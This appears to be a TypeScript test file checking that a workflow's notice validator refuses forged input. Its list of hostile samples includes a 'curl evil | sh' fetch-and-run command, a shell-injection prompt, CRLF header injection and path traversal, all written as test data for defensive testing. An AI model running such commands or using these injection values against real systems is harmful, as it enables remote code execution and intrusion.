import { MockActivityEnvironment } from '@temporalio/testing';
import { describe, expect, it } from 'vitest';
import { createInputJudge } from '../../../activities/judge-input.ts';
import { notify } from '../../../activities/notices/notify.ts';
import type { Notice } from '../../../plan/types/notice.ts';
import { CALLMANAGER4 } from '../../../platforms/callmanager4/platform.ts';
import { siteFrom } from '../../config/site-file/site-content.ts';
import { noticeWith, QUIET, RUN } from './tell.ts';

const judge = createInputJudge(CALLMANAGER4);
const asked = noticeWith().asked!;

const FORGED: readonly (readonly [string, unknown])[] = [
  ['nothing', undefined],
  ['a text', 'notice'],
  ['a list', [noticeWith()]],
  ['a field that it does not have, such as a command', { ...noticeWith(), command: 'curl evil | sh' }],
  ['a command beside what is asked', noticeWith({ asked: { ...asked, command: 'x' } as never })],
  ['a prompt that is a command', noticeWith({ asked: { ...asked, prompt: "x#1' ; touch x" } })],
  ['a prompt of two lines', noticeWith({ asked: { ...asked, prompt: 'x#1\ny#1' } })],
  ['a hash that is none', noticeWith({ asked: { ...asked, prompt: 'approve', plan: '`x`' } })],
  ['an approval of no plan', noticeWith({ asked: { ...asked, prompt: 'approve' } })],
  ['an id of its own', noticeWith({ id: 'x' })],
  ['a server that is a line', noticeWith({ server: 'a\r\nb' })],
  ['a kind that is a header', noticeWith({ kind: 'asked\r\nBcc: x' as never })],
  ['a procedure that is a sentence', noticeWith({ procedure: 'Click here' })],
  ['a megabyte of text', noticeWith({ text: 'x'.repeat(1_000_000) })],
  ['ten thousand people', noticeWith({ to: { people: Array.from({ length: 10_000 }, () => 'x'), groups: [] } })],
  ['a time that is none', noticeWith({ at: 'yesterday' })],
  ['counts of what nobody knows', noticeWith({ counts: { x: 1 } as never })],
];

describe('a notice that somebody sends by hand', () => {
  it.each(FORGED)('with %s is refused', (_, forged) => {
    expect(() => judge.notice(forged)).toThrow(expect.objectContaining({ type: 'INPUT_REFUSED' }) as Error);
  });

  it('is taken as runs make it', () => {
    const { asked: _, ...end } = noticeWith({ kind: 'completed' });
    const all: readonly Notice[] = [noticeWith(), end, { ...end, kind: 'several', counts: { held: 3 } }];
    expect(all.map(judge.notice)).toEqual(all);
  });

  it.each(['other/berlin', 'ccm/', 'ccm/a b', 'ccm/a\r\nBcc: x', 'ccm/../x/y'])(
    'is refused as one of the workflow %j, which is no run of a cluster',
    async (workflowId) => {
      const environment = new MockActivityEnvironment(
        {
          namespace: 'night',
          workflowExecution: { ...RUN, workflowId },
        },
        QUIET,
      );
      const dependencies = { readSite: () => Promise.resolve(siteFrom()), uiAddress: null };
      await expect(environment.run(() => notify(dependencies, noticeWith()))).rejects.toMatchObject({
        type: 'INPUT_REFUSED',
      });
    },
  );

  it.each([
    ['without a site file', undefined, 'bln'],
    ['without a site file, for no site', undefined, undefined],
    ['with the file of another site', () => Promise.resolve(siteFrom()), 'aar'],
  ])('is left by a worker %s to others', async (_, readSite, wanted) => {
    const environment = new MockActivityEnvironment({ workflowExecution: RUN }, QUIET);
    const telling = environment.run(() => notify({ readSite, uiAddress: null }, noticeWith(), wanted));
    await expect(telling).rejects.toMatchObject({ type: 'OTHER_SITE', nonRetryable: false });
  });
});
